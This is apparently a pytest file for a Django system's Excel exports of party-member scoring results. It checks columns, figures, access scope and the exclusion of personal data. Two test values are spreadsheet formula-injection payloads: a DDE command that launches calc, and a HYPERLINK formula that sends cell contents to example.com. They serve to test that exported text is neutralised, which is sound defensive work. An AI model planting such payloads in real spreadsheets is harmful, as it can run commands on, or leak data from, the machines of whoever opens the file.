"""Excel exports of assessment results: one branch's assessment, a township's, the county's.

The assessments are built through the services, as a branch would: months closed, the quarter
opened, confirmed by the members' meeting and approved by the township.
"""

import datetime
import io
from decimal import Decimal
from urllib.parse import quote

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from evaluations import services as evaluations
from evaluations.models import Assessment, AssessmentLine
from members.models import Branch, Member
from members.permissions import system_user
from scoring import services as scoring
from scoring.models import RuleItem
from tests.rules_helpers import load_default_rules

from .conftest import make_member

pytestmark = pytest.mark.django_db

YEAR = 2026
QUARTER_HEADERS = [
    "乡镇",
    "党支部",
    "序号",
    "姓名",
    "类别",
    "基础积分",
    "贡献加分",
    "违规扣分",
    "更正",
    "本期积分",
    "累计积分",
    "排名",
    "积分清零",
    "积分卡号",
    "暂缓确认",
    "暂缓原因",
    "评定状态",
    "党员大会日期",
]
ANNUAL_HEADERS = [
    *QUARTER_HEADERS[:11],
    "民主评议积分",
    "年度总积分",
    "等次",
    *QUARTER_HEADERS[11:],
]
SCORES = ["基础积分", "贡献加分", "违规扣分", "更正", "本期积分", "累计积分"]
FIELD_FOR = dict(
    zip(
        SCORES,
        ["base", "bonus", "deductions", "corrections", "period_total", "cumulative"],
        strict=True,
    )
)
EVIL_NAME = "=cmd|' /C calc'!A0"
EVIL_REASON = '=HYPERLINK("http://example.com/?x="&A1,"点击")'


# --- Building assessments through the services -------------------------------------------------


def item(code, year=YEAR):
    return RuleItem.objects.get(
        code=code, branch__isnull=True, rule_set__year=year, rule_set__county__name="岚县"
    )


def close_months(branch, months, *, year=YEAR, by=None):
    for month in months:
        branch_month = scoring.month_get_or_open(branch=branch, year=year, month=month)
        scoring.month_close(
            branch_month=branch_month,
            meeting_date=datetime.date(year, month, 28),
            by=by or system_user(),
        )


def assess(
    branch,
    by,
    *,
    year=YEAR,
    period="Q1",
    approver=None,
    held_back=None,
    meeting_date=None,
    close=True,
):
    """Open, confirm and (if an approver is given) approve the branch's period."""
    if close:
        close_months(branch, evaluations.period_months(period), year=year, by=by or system_user())
    assessment = evaluations.assessment_open(
        branch=branch, year=year, period=period, by=by or system_user()
    )
    if meeting_date is None:
        last = evaluations.period_months(period)[-1]
        meeting_date = datetime.date(year + last // 12, last % 12 + 1, 8)
    expected = max(branch.members.count(), 1)
    evaluations.assessment_confirm(
        assessment=assessment,
        meeting_date=meeting_date,
        members_expected=expected,
        members_present=expected,
        held_back=held_back,
        by=by or system_user(),
    )
    if approver is not None:
        evaluations.assessment_approve(assessment=assessment, by=approver)
    return assessment


def add_members(branch, count, prefix="党员"):
    return [make_member(branch, f"{prefix}{n:03d}", phone=f"139{n:08d}") for n in range(count)]


@pytest.fixture
def rules_2026(county):
    return load_default_rules(year=YEAR)


@pytest.fixture
def q1(county, rules_2026):
    """2026 Q1 in 东村镇: 东阳涧村 approved (with a bonus, a deduction, a cleared member, a
    held-back member and a formula-looking name), 官桥村 confirmed but not yet approved;
    史家庄村 (岚城镇) only opened. 官桥村 is assessed first, so its assessment has the lower pk."""
    by = county.secretary_user
    baiyu = make_member(county.branch, "白玉兰", category="D", phone="13903581234")
    zhao = make_member(county.branch, "赵刚")
    liu = make_member(county.branch, "刘桂花", gender="F")
    make_member(county.branch, EVIL_NAME)
    declaration = scoring.declaration_create(
        member=county.member,
        branch=county.branch,
        year=YEAR,
        month=3,
        item=item("G03"),
        occurred_on=datetime.date(YEAR, 3, 12),
        description="人居环境整治",
        points=Decimal("6"),
        by=by or system_user(),
    )
    scoring.declaration_approve(declaration=declaration, by=by or system_user())
    scoring.deduction_record(
        member=baiyu,
        branch=county.branch,
        year=YEAR,
        month=2,
        item=item("K04"),
        occurred_on=datetime.date(YEAR, 2, 10),
        reason="2月党费未交",
        by=by or system_user(),
    )
    scoring.clearing_record(
        member=zhao,
        branch=county.branch,
        year=YEAR,
        month=2,
        item=item("Q4"),
        occurred_on=datetime.date(YEAR, 2, 20),
        reason="参与赌博被行政处罚",
        confirmed=True,
        by=by or system_user(),
    )
    branch_y = assess(county.branch_y, county.secretary_y_user)  # confirmed only
    close_months(county.branch_z, (1, 2, 3), by=system_user())
    branch_z = evaluations.assessment_open(  # opened only: not exported
        branch=county.branch_z, year=YEAR, period="Q1", by=system_user()
    )
    branch = assess(
        county.branch, by, approver=county.township_user, held_back={liu.pk: EVIL_REASON}
    )
    return {"branch": branch, "branch_y": branch_y, "branch_z": branch_z}


# --- Reading an export back ----------------------------------------------------------------------


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Cache-Control"] == "private, no-store"
    return response, load_workbook(io.BytesIO(response.content)).active


def assessment_url(assessment):
    return reverse("assessment_export", args=[assessment.pk])


def township_url(township, period="Q1", year=YEAR):
    return reverse("township_results_export", args=[township.pk, year, period])


def county_url(period="Q1", year=YEAR):
    return reverse("county_results_export", args=[year, period])


def records(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def cells(sheet):
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_nothing_personal(sheet):
    """No ID number (full or masked), phone number or birth date in any cell."""
    texts = [str(cell.value) for cell in cells(sheet) if cell.value is not None]
    values = [cell.value for cell in cells(sheet)]
    for member in Member.objects.all():
        for secret in (member.id_number, member.masked_id_number, member.id_number[-8:]):
            assert not any(secret in text for text in texts), member.name
        if member.phone:
            assert not any(member.phone in text for text in texts), member.name
        birth = datetime.datetime.combine(member.birth_date, datetime.time())
        assert birth not in values and member.birth_date.isoformat() not in texts


# --- One branch's assessment ----------------------------------------------------------------------


def test_the_branch_export_has_the_designed_columns_and_one_row_per_member(county, q1):
    assessment = q1["branch"]
    _response, sheet = download(county.client("secretary"), assessment_url(assessment))
    assert [cell.value for cell in sheet[1]] == QUARTER_HEADERS
    assert sheet.freeze_panes == "A2"
    rows = records(sheet)
    lines = list(assessment.lines.select_related("member"))
    assert len(rows) == len(lines) == 5
    # The notice's order: by rank, ties by pinyin, cleared members last.
    assert [row["姓名"] for row in rows] == [
        line.member.name if line.member.name != EVIL_NAME else "'" + EVIL_NAME
        for line in evaluations.public_order(lines)
    ]
    assert [row["序号"] for row in rows] == [1, 2, 3, 4, 5]
    assert {row["乡镇"] for row in rows} == {"东村镇"}
    assert {row["党支部"] for row in rows} == {"东阳涧村"}
    assert {row["评定状态"] for row in rows} == {"乡镇已审核通过"}
    assert {row["党员大会日期"] for row in rows} == {datetime.datetime(YEAR, 4, 8)}


def test_the_figures_are_the_confirmed_lines_as_numbers_with_two_decimals(county, q1):
    assessment = q1["branch"]
    _response, sheet = download(county.client("township"), assessment_url(assessment))
    rows = {row["积分卡号"]: row for row in records(sheet)}
    for line in assessment.lines.select_related("member").filter(cleared=False):
        row = rows[line.member.card_number]
        assert row["类别"] == f"{line.category}类"
        for header, field in FIELD_FOR.items():
            assert row[header] == pytest.approx(float(getattr(line, field))), header
        assert row["排名"] == line.rank and row["积分清零"] is None
    wang = next(row for row in rows.values() if row["姓名"] == "王建国")
    assert (wang["基础积分"], wang["贡献加分"], wang["本期积分"]) == (22, 6, 28)  # A: 88/4 + 6
    baiyu = next(row for row in rows.values() if row["姓名"] == "白玉兰")
    assert baiyu["违规扣分"] == -2 and baiyu["本期积分"] == 14  # D: 64/4 − 2
    # Stored as numbers (not text), shown with two decimals.
    header = [cell.value for cell in sheet[1]]
    for column in (header.index(name) + 1 for name in SCORES):
        cell = sheet.cell(row=2, column=column)
        assert cell.data_type == "n" and cell.number_format == "0.00"
    card = sheet.cell(row=2, column=header.index("积分卡号") + 1)
    assert card.data_type == "s" and card.number_format == "@"
    # Column totals equal the lines' totals.
    period_total = sum(row["本期积分"] or 0 for row in rows.values())
    expected = sum(line.period_total for line in assessment.lines.filter(cleared=False))
    assert period_total == pytest.approx(float(expected))


def test_a_cleared_member_shows_only_the_marker_as_on_the_notice(county, q1):
    _response, sheet = download(county.client("secretary"), assessment_url(q1["branch"]))
    rows = records(sheet)
    zhao = rows[-1]
    assert zhao["姓名"] == "赵刚" and zhao["积分清零"] == "是"
    assert all(zhao[header] is None for header in [*SCORES, "排名"])
    assert zhao["类别"] == "B类" and zhao["序号"] == 5
    notice_row = evaluations.notice_rows(q1["branch"])[-1]
    assert notice_row == {"no": 4, "name": "赵刚", "category": "B", "cleared": True}


def test_a_held_back_member_is_listed_with_the_reason(county, q1):
    _response, sheet = download(county.client("secretary"), assessment_url(q1["branch"]))
    liu = next(row for row in records(sheet) if row["姓名"] == "刘桂花")
    assert liu["暂缓确认"] == "是"
    assert liu["暂缓原因"] == "'" + EVIL_REASON
    assert liu["本期积分"] == 20  # B: 80 / 4; inside the system the figures are still shown
    others = [row for row in records(sheet) if row["姓名"] != "刘桂花"]
    assert {row["暂缓确认"] for row in others} == {None}


def test_formula_looking_text_comes_back_neutralised(county, q1):
    _response, sheet = download(county.client("secretary"), assessment_url(q1["branch"]))
    by_text = {cell.value: cell for cell in cells(sheet) if isinstance(cell.value, str)}
    for text in (EVIL_NAME, EVIL_REASON):
        cell = by_text["'" + text]
        assert cell.data_type == "s"
    assert not any(
        cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
        for cell in cells(sheet)
    )


def test_no_id_number_phone_or_birth_date_in_any_export(county, q1):
    evaluations.assessment_approve(assessment=q1["branch_y"], by=county.township_user)
    client = county.client("county")
    for url in (assessment_url(q1["branch"]), township_url(county.dongcun), county_url()):
        _response, sheet = download(client, url)
        assert len(records(sheet)) >= 5
        assert_nothing_personal(sheet)


def test_the_file_name_is_chinese_for_every_browser(county, q1):
    client = county.client("county")
    expected = {
        assessment_url(q1["branch"]): "东村镇东阳涧村_2026年第一季度_积分结果.xlsx",
        township_url(county.dongcun): "东村镇_2026年第一季度_积分结果.xlsx",
        county_url(): f"{settings.COUNTY_NAME}_2026年第一季度_积分结果.xlsx",
    }
    for url, filename in expected.items():
        response, _sheet = download(client, url)
        disposition = response["Content-Disposition"]
        assert disposition.startswith("attachment; filename=")
        assert f"filename*=UTF-8''{quote(filename, safe='')}" in disposition


# --- Many assessments in one sheet ---------------------------------------------------------------


def test_the_township_export_lists_confirmed_and_approved_branches_in_order(county, q1):
    _response, sheet = download(county.client("township"), township_url(county.dongcun))
    assert [cell.value for cell in sheet[1]] == QUARTER_HEADERS
    assert sheet.title == "2026年第一季度积分结果"
    rows = records(sheet)
    branches = [row["党支部"] for row in rows]
    # 东阳涧村 (position 1) before 官桥村 (position 2), though 官桥村 was assessed first.
    assert branches == ["东阳涧村"] * 5 + ["官桥村"]
    assert rows[-1]["姓名"] == "李秀英" and rows[-1]["序号"] == 1
    assert rows[-1]["评定状态"] == "已评定，待乡镇审核"
    assert "史家庄村" not in branches  # another township


def test_the_county_export_leaves_out_open_and_returned_assessments(county, q1):
    evaluations.assessment_return(
        assessment=q1["branch_y"], by=county.township_user, comment="请核对李秀英的加分"
    )
    _response, sheet = download(county.client("county"), county_url())
    assert {row["党支部"] for row in records(sheet)} == {
        "东阳涧村"
    }  # 官桥村 returned, 史家庄村 open
    expected = q1["branch_z"].pk
    evaluations.assessment_confirm(
        assessment=Assessment.objects.get(pk=expected),
        meeting_date=datetime.date(YEAR, 4, 9),
        members_expected=1,
        members_present=1,
        by=system_user(),
    )
    _response, sheet = download(county.client("county"), county_url())
    rows = records(sheet)
    assert [(row["乡镇"], row["党支部"]) for row in rows][-1] == ("岚城镇", "史家庄村")
    assert [row["乡镇"] for row in rows] == ["东村镇"] * 5 + ["岚城镇"]


def test_a_period_with_no_confirmed_assessment_gives_a_sheet_with_only_the_header(county, q1):
    _response, sheet = download(county.client("county"), county_url("Q2"))
    assert [cell.value for cell in sheet[1]] == QUARTER_HEADERS
    assert sheet.max_row == 1


# --- Scope -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("secretary", 200),
        ("assessor", 200),
        ("township", 200),
        ("county", 200),
        ("secretary_y", 404),
        ("township_2", 404),
    ],
)
def test_the_branch_export_is_for_those_who_may_see_the_assessment(county, q1, persona, status):
    assert county.client(persona).get(assessment_url(q1["branch"])).status_code == status


@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("township", 200),
        ("county", 200),
        ("township_2", 404),
        ("secretary", 404),
        ("assessor", 404),
        ("secretary_y", 404),
    ],
)
def test_the_township_export_is_for_its_official_and_the_county(county, q1, persona, status):
    assert county.client(persona).get(township_url(county.dongcun)).status_code == status


@pytest.mark.parametrize(
    ("persona", "status"),
    [("county", 200), ("township", 404), ("township_2", 404), ("secretary", 404)],
)
def test_the_county_export_is_for_the_county_only(county, q1, persona, status):
    assert county.client(persona).get(county_url()).status_code == status


@pytest.mark.parametrize("period", ["Q5", "y", "Q0", "H1"])
def test_an_unknown_period_is_not_found(county, q1, period):
    client = county.client("county")
    assert client.get(township_url(county.dongcun, period)).status_code == 404
    assert client.get(county_url(period)).status_code == 404


def test_a_missing_assessment_or_township_is_not_found(county, q1):
    client = county.client("county")
    assert client.get(reverse("assessment_export", args=[999999])).status_code == 404
    assert (
        client.get(reverse("township_results_export", args=[999999, YEAR, "Q1"])).status_code == 404
    )


def test_the_exports_are_downloads_only(county, q1):
    client = county.client("county")
    assert client.post(assessment_url(q1["branch"])).status_code == 405
    assert client.post(county_url()).status_code == 405


# --- Queries ------------------------------------------------------------------------------------

# Whatever the number of rows or branches: the session, the user, the official (scope), [the
# township, for the township export], the assessment(s), and one query for all the lines with
# their members.


@pytest.mark.parametrize("members", [5, 60])
def test_the_branch_export_makes_a_fixed_number_of_queries(
    county, rules_2026, members, django_assert_max_num_queries
):
    add_members(county.branch, members - 1)
    assessment = assess(county.branch, county.secretary_user, approver=county.township_user)
    client = county.client("secretary")
    with django_assert_max_num_queries(5):
        response = client.get(assessment_url(assessment))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == members + 1


@pytest.mark.parametrize("branches", [1, 3])
def test_the_township_and_county_exports_make_a_fixed_number_of_queries(
    county, rules_2026, branches, django_assert_max_num_queries
):
    more = [
        Branch.objects.create(township=county.dongcun, name=f"新村{n}", position=10 + n)
        for n in range(branches - 1)
    ]
    rows = 0
    for branch in [county.branch, *more]:
        add_members(branch, 20, prefix=branch.name)
        assess(branch, system_user(), approver=system_user())
        rows += branch.members.count()
    client = county.client("county")
    for url, queries in ((township_url(county.dongcun), 6), (county_url(), 6)):
        with django_assert_max_num_queries(queries):
            response = client.get(url)
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet.max_row == rows + 1
    assert AssessmentLine.objects.count() == rows


# --- The year ------------------------------------------------------------------------------------


def test_the_annual_export_adds_appraisal_total_and_grade(county):
    """2025, assessed from January to the members' meeting in January 2026."""
    load_default_rules(year=2025)
    branch = Branch.objects.create(township=county.dongcun, name="南河村", position=3)
    start = datetime.date(2025, 1, 1)
    good = make_member(branch, "郭美兰", category="A", on_roll_from=start, gender="F")
    plain = make_member(branch, "郝平", on_roll_from=start)
    cleared = make_member(branch, "孟强", on_roll_from=start)
    by = system_user()
    scoring.clearing_record(
        member=cleared,
        branch=branch,
        year=2025,
        month=5,
        item=item("Q5", year=2025),
        occurred_on=datetime.date(2025, 5, 30),
        reason="连续6个月未参加组织生活",
        confirmed=True,
        by=by or system_user(),
    )
    for quarter in ("Q1", "Q2", "Q3", "Q4"):
        assess(branch, by, year=2025, period=quarter, approver=by)
    evaluations.appraisal_record(
        member=good, branch=branch, year=2025, score=Decimal("18"), by=by or system_user()
    )
    evaluations.appraisal_record(
        member=plain, branch=branch, year=2025, ballots=(12, 15, 3, 0), by=by or system_user()
    )
    annual = assess(
        branch,
        by,
        year=2025,
        period="Y",
        approver=by,
        close=False,
        meeting_date=datetime.date(2026, 1, 12),
    )
    response, sheet = download(county.client("township"), assessment_url(annual))
    assert [cell.value for cell in sheet[1]] == ANNUAL_HEADERS
    assert sheet.title == "2025年度积分结果"
    disposition = response["Content-Disposition"]
    assert quote("东村镇南河村_2025年度_积分结果.xlsx", safe="") in disposition
    rows = {row["姓名"]: row for row in records(sheet)}
    lines = {line.member.name: line for line in annual.lines.select_related("member")}
    for name in ("郭美兰", "郝平"):
        row, line = rows[name], lines[name]
        assert row["民主评议积分"] == pytest.approx(float(line.appraisal))
        assert row["年度总积分"] == pytest.approx(float(line.annual_total))
        assert row["等次"] == line.grade_label != ""
        assert row["排名"] == line.rank
    assert rows["郭美兰"]["民主评议积分"] == 18
    assert rows["郭美兰"]["年度总积分"] == 106  # A: 88 + 18
    assert rows["郝平"]["民主评议积分"] == pytest.approx(17.2)
    gone = rows["孟强"]
    assert gone["积分清零"] == "是" and gone["等次"] == "不合格"
    assert all(gone[h] is None for h in [*SCORES, "民主评议积分", "年度总积分", "排名"])
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("年度总积分") + 1)
    assert cell.data_type == "n" and cell.number_format == "0.00"
    assert_nothing_personal(sheet)
    # The county's annual sheet carries the same columns.
    _response, county_sheet = download(county.client("county"), county_url("Y", 2025))
    assert [cell.value for cell in county_sheet[1]] == ANNUAL_HEADERS
    assert len(records(county_sheet)) == 3
